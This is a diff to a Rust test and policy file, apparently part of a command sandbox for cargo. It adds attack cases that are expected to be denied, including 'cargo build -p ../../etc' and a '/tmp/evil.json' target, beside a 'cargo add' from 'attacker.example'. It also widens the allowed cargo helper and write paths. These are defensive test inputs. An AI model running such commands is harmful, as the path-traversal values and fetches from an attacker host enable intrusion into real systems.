@@ -283,6 +283,16 @@ const ATTACKS: &[(&str, &str, &str)] = &[
     ("developer", "cargo add --path ../x foo", "option-denied"),
     (
         "developer",
+        "cargo build -p ../../etc",
+        "option-value-denied",
+    ),
+    (
+        "developer",
+        "cargo build --target /tmp/evil.json",
+        "option-value-denied",
+    ),
+    (
+        "developer",
         "cargo add https://attacker.example/x",
         "argument-denied",
     ),
@@ -673,7 +683,7 @@ fn sub_template(program: &str, sub: &str) -> Option<Vec<&'static str>> {
 }
 
 /// Programs besides the one run that a program may execute (its documented helpers).
-fn helper_allowed(program: &str, exe: &str) -> bool {
+fn helper_allowed(program: &str, exe: &str, s: &Scratch) -> bool {
     let base = exe.rsplit('/').next().unwrap_or(exe);
     if base == program {
         return true;
@@ -682,8 +692,10 @@ fn helper_allowed(program: &str, exe: &str) -> bool {
         // git runs its own commands, some through sh (local transports).
         "git" => base.starts_with("git") || base == "sh" || exe.starts_with("/usr/lib/git-core/"),
         "which" => base == "sh" || base == "dash",
+        // cargo runs the toolchain, the linker, and what it built (the project's own code).
         "cargo" => {
-            exe.contains("/.cargo/")
+            exe.starts_with(&format!("{}/", s.ws.display()))
+                || exe.contains("/.cargo/")
                 || exe.contains("/.rustup/")
                 || exe.contains("/target/")
                 || matches!(
@@ -711,7 +723,10 @@ fn write_allowed(program: &str, path: &str, s: &Scratch) -> bool {
         return true;
     }
     match program {
-        "cargo" => path.contains("/.cargo/") || path.contains("/.rustup/"),
+        // The toolchain's caches, and the C compiler's temporary files when it links.
+        "cargo" => {
+            path.contains("/.cargo/") || path.contains("/.rustup/") || path.starts_with("/tmp/cc")
+        }
         "npm" => path.starts_with(&s.home.join(".npm").display().to_string()),
         _ => false,
     }
@@ -927,7 +942,7 @@ fn effects(program: &str, log: &str, s: &Scratch) -> Vec<String> {
         }
         if call == "execve" || call == "execveat" {
             if let Some(exe) = paths.first() {
-                if ok && !helper_allowed(program, exe) {
+                if ok && !helper_allowed(program, exe, s) {
                     out.push(format!("runs {exe}"));
                 }
             }
